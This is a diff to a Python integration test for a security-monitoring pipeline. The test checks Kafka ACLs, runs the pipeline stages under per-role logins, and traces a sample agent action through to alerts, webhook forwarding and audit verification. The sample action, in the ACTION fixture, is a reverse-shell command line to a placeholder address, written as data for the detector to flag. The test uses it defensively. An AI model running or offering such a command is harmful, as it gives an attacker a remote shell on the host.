@@ -1,31 +1,38 @@
 """The ACLs name the topics there are, keep the raw class apart, and a stage runs under them."""
 
+import os
+import subprocess
 import time
-from collections.abc import Callable
+from collections.abc import Callable, Iterable, Iterator
+from datetime import UTC, datetime
+from functools import partial
 from pathlib import Path
 from typing import Any
 
+import httpx
+import msgspec
 import pytest
 from confluent_kafka import Consumer, KafkaError, TopicPartition
 from confluent_kafka.admin import (
     AdminClient,
-    NewTopic,
     ScramCredentialInfo,
     ScramMechanism,
     UserScramCredentialUpsertion,
 )
 
 from infra.kafka import acls
-from infra.kafka.broker import KafkaBroker
+from infra.kafka.broker import KafkaBroker, free_ports
 from tachograph.pipeline.errors import TachoError
+from tachograph.pipeline.kafka.topics import provision
 from tachograph.pipeline.kafka.writer import Writer
-from tachograph.pipeline.notarize.heads import heads_in_topic
-from tachograph.pipeline.notarize.stage import Notary
 from tachograph.pipeline.settings import ClickHouseSettings, KafkaSettings, Settings
+from tachograph.pipeline.store.clickhouse import Connection
+from tachograph.pipeline.up.command import STAGES
 from tachograph.schemas import contracts
-from tests.pipeline.notarize.evidence import PLACE, covered, record, until
+from tests.e2e.pipeline import CLI, share_compiled_rules
+from tests.pipeline.forward.receivers import WebhookReceiver
 from tests.pipeline.verify.conftest import clickhouse
-from tests.waiting import WAIT_S
+from tests.waiting import WAIT_S, eventually
 
 __all__ = ["clickhouse"]
 
@@ -72,27 +79,29 @@ def test_they_are_printed_for_the_command_that_operators_know() -> None:
 
 
 PASSWORD = "only-for-this-test"
+OURS = ("TACHO_", "KAFKA_", "CLICKHOUSE_", "PROMETHEUS_")
 
 
 @pytest.fixture
-def guarded(private_kafka: Callable[..., KafkaBroker]) -> KafkaBroker:
+def guarded(
+    private_kafka: Callable[..., KafkaBroker], clickhouse: ClickHouseSettings
+) -> KafkaBroker:
     """A broker on which everybody may do what the file says."""
     broker = private_kafka(secure=True, authorized=True)
     admin = AdminClient({"bootstrap.servers": broker.bootstrap_servers})
-    made = [
-        *admin.create_topics([NewTopic(name, 1, 1) for name in TOPICS]).values(),
-        *admin.alter_user_scram_credentials(
-            [
-                UserScramCredentialUpsertion(
-                    f"tacho-{role}",
-                    ScramCredentialInfo(ScramMechanism.SCRAM_SHA_512, 4096),
-                    PASSWORD.encode(),
-                )
-                for role in acls.roles()
-            ]
-        ).values(),
-    ]
-    for future in made:
+    owner = KafkaSettings(bootstrap=broker.bootstrap_servers)
+    provision(Settings(kafka=owner, clickhouse=clickhouse))
+    logins = admin.alter_user_scram_credentials(
+        [
+            UserScramCredentialUpsertion(
+                f"tacho-{role}",
+                ScramCredentialInfo(ScramMechanism.SCRAM_SHA_512, 4096),
+                PASSWORD.encode(),
+            )
+            for role in acls.roles()
+        ]
+    )
+    for future in logins.values():
         future.result(WAIT_S)
     assert acls.apply(admin) == len(list(acls.bindings()))
     return broker
@@ -130,33 +139,170 @@ def refused(settings: Settings, group: str, topic: str) -> bool:
     raise AssertionError("the broker says nothing")
 
 
-def test_under_them_the_notary_works_the_auditor_reads_and_nobody_does_more(
-    guarded: KafkaBroker, clickhouse: ClickHouseSettings, tmp_path: Path
+POLICY = """
+[[respond]]
+kind = "quarantine"
+reason = "Stopped until somebody has looked."
+min_severity = "low"
+session_only = false
+expires_after_s = 900
+"""
+ACTION = {
+    "kind": "process",
+    "agent_id": "bot",
+    "session_id": "s-1",
+    "process_command_line": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+}
+# What comes of it, wherever it lies.
+COMES = ("actions", "signals", "alerts", "agent_state", "directives", "incidents", "tree_heads")
+
+
+class Staff:
+    """Stages and commands as processes, each under the login of its role and nobody's else."""
+
+    def __init__(self, broker: KafkaBroker, clickhouse: ClickHouseSettings, folder: Path) -> None:
+        self._folder, self._running = folder, dict[str, subprocess.Popen[bytes]]()
+        self.door = f"http://127.0.0.1:{(port := free_ports(1)[0])}"
+        (folder / "policy.toml").write_text(POLICY, "utf-8")
+        self._environment = {
+            **{k: v for k, v in os.environ.items() if not k.startswith(OURS)},
+            "KAFKA_BOOTSTRAP_SERVERS": broker.secure_bootstrap_servers,
+            "KAFKA_SECURITY_PROTOCOL": "SASL_SSL",
+            "KAFKA_SASL_MECHANISM": "SCRAM-SHA-512",
+            "KAFKA_SASL_PASSWORD": PASSWORD,
+            "KAFKA_SSL_CA_LOCATION": str(broker.credentials.ca_path),
+            "CLICKHOUSE_URL": clickhouse.url,
+            "CLICKHOUSE_USER": clickhouse.user,
+            "CLICKHOUSE_PASSWORD": clickhouse.password,
+            "TACHO_HOME": str(folder / "home"),
+            "TACHO_DOOR_PORT": str(port),
+            "TACHO_TRIAGE_POLICY": str(folder / "policy.toml"),
+            "TACHO_FORWARD_CONFIG": str(folder / "forward.toml"),
+            "TACHO_HEAD_EVERY_S": "1",
+            "TACHO_PARENT_PID": str(os.getpid()),
+            "HOOK_SECRET": "only-for-this-test",
+        }
+        share_compiled_rules(folder / "home")
+
+    def _as(self, role: str) -> dict[str, str]:
+        return {**self._environment, "KAFKA_SASL_USERNAME": f"tacho-{role}"}
+
+    def log(self, name: str) -> str:
+        """All that a stage said."""
+        return (self._folder / f"{name}.log").read_text("utf-8", errors="replace")
+
+    def start(self, names: Iterable[str], hook: str) -> None:
+        """Start stages, of which one forwards to a webhook."""
+        options = {"name": "hook", "type": "webhook", "url": hook, "secret_env": "HOOK_SECRET"}
+        lines = [f'{name} = "{value}"' for name, value in options.items()]
+        (self._folder / "forward.toml").write_text("\n".join(["[[destination]]", *lines]), "utf-8")
+        for name in names:
+            with (self._folder / f"{name}.log").open("ab") as sink:
+                self._running[name] = subprocess.Popen(
+                    (*CLI, name), env=self._as(name), stdout=sink, stderr=subprocess.STDOUT
+                )
+
+    def run(self, role: str, *words: str) -> str:
+        """What a command answers; it must go well."""
+        done = subprocess.run(
+            (*CLI, *words),
+            env=self._as(role),
+            check=False,
+            capture_output=True,
+            text=True,
+            timeout=WAIT_S,
+        )
+        assert done.returncode == 0, f"{role}: {done.stdout}{done.stderr}"
+        return done.stdout
+
+    def check(self) -> None:
+        """Nobody has ended."""
+        for name, process in self._running.items():
+            assert process.poll() is None, f"{name} ended: {self.log(name)[-2_000:]}"
+
+    def stop(self) -> dict[str, int]:
+        """Ask all to stop; what they ended with."""
+        for process in self._running.values():
+            process.terminate()
+        return {name: process.wait(WAIT_S) for name, process in self._running.items()}
+
+    def abandon(self) -> None:
+        """End whoever is left, after a test that failed."""
+        for process in self._running.values():
+            process.kill()
+            process.wait()
+
+
+@pytest.fixture
+def staff(guarded: KafkaBroker, clickhouse: ClickHouseSettings, tmp_path: Path) -> Iterator[Staff]:
+    made = Staff(guarded, clickhouse, tmp_path)
+    yield made
+    made.abandon()
+
+
+@pytest.fixture
+def hook() -> Iterator[WebhookReceiver]:
+    made = WebhookReceiver()
+    yield made
+    made.close()
+
+
+def test_under_them_every_stage_does_its_work_people_theirs_and_nobody_does_more(
+    guarded: KafkaBroker,
+    clickhouse: ClickHouseSettings,
+    staff: Staff,
+    hook: WebhookReceiver,
+    tmp_path: Path,
 ) -> None:
-    owner = Settings(
-        kafka=KafkaSettings(bootstrap=guarded.bootstrap_servers), clickhouse=clickhouse
-    )
-    writer = Writer(owner)
-    for number in range(3):
-        writer.send(PLACE[0], record(PLACE[0], number), partition=0)
-    writer.send("agent.raw", b"{}", partition=0)
-    writer.flush()
+    staff.start(STAGES, hook.url)
 
-    notary_role = as_role("notarize", guarded, clickhouse, tmp_path)
-    notary = Notary(notary_role, environ={"TACHO_HEAD_EVERY_S": "1"})
-    until(notary, lambda: covered(notary_role) == 3, "the notary signs under its ACLs")
-    notary.close()
+    def is_ready() -> bool:
+        staff.check()
+        try:
+            return bool(httpx.get(f"{staff.door}/readyz").is_success)
+        except httpx.TransportError:
+            return False
+
+    eventually(is_ready, "the door is open")
+    action = {**ACTION, "event_time": datetime.now(UTC)}
+    ndjson = {"content-type": "application/x-ndjson"}
+    body = msgspec.json.encode(action)
+    posted = httpx.post(f"{staff.door}/v1/actions", content=body, headers=ndjson, timeout=WAIT_S)
+    assert posted.is_success, posted.text
+    with Connection(ClickHouseSettings(url=clickhouse.url), reads_only=True) as reader:
+
+        def has(table: str) -> bool:
+            staff.check()
+            return bool(reader.rows(f"SELECT 1 FROM tacho.{table} LIMIT 1"))
+
+        for table in COMES:
+            eventually(partial(has, table), f"something in {table}")
+        [(alert_id,)] = reader.rows("SELECT alert_id FROM tacho.alerts")
+    eventually(lambda: bool(hook.requests), "the alert is forwarded")
+    staff.run("operator", "alert", "note", alert_id, "looked at")
+    with Connection(ClickHouseSettings(url=clickhouse.url), reads_only=True) as reader:
+        noted = "SELECT 1 FROM tacho.dispositions"
+        eventually(lambda: bool(reader.rows(noted)), "the note is stored")
+    assert "HOLDS" in staff.run("auditor", "verify")
+    assert staff.stop() == dict.fromkeys(STAGES, 0)
+    for name in STAGES:
+        assert "uthoriz" not in staff.log(name), staff.log(name)
+
+    notary = as_role("notarize", guarded, clickhouse, tmp_path)
     auditor = as_role("auditor", guarded, clickhouse, tmp_path)
-    assert heads_in_topic(auditor)[-1].size == 3
-    assert not refused(auditor, "tacho.verify", PLACE[0])
-
-    assert refused(notary_role, "tacho.notarize", "agent.raw")
-    assert refused(auditor, "tacho.verify", "agent.raw")
     producer = as_role("producer", guarded, clickhouse, tmp_path)
-    assert refused(producer, "agent.one", "agent.raw")
+    assert not refused(auditor, "tacho.verify", "agent.alerts")
+    for settings, group in (
+        (notary, "tacho.notarize"),
+        (auditor, "tacho.verify"),
+        (producer, "agent.one"),
+        (as_role("detect", guarded, clickhouse, tmp_path), "tacho.detect"),
+        (as_role("operator", guarded, clickhouse, tmp_path), "tacho.tail"),
+    ):
+        assert refused(settings, group, "agent.raw")
     for settings, topic in (
         (auditor, "agent.tree_heads"),
-        (notary_role, "agent.alerts"),
+        (notary, "agent.alerts"),
         (producer, "agent.actions"),
     ):
         with pytest.raises(TachoError, match=r"[Aa]uthorization"):
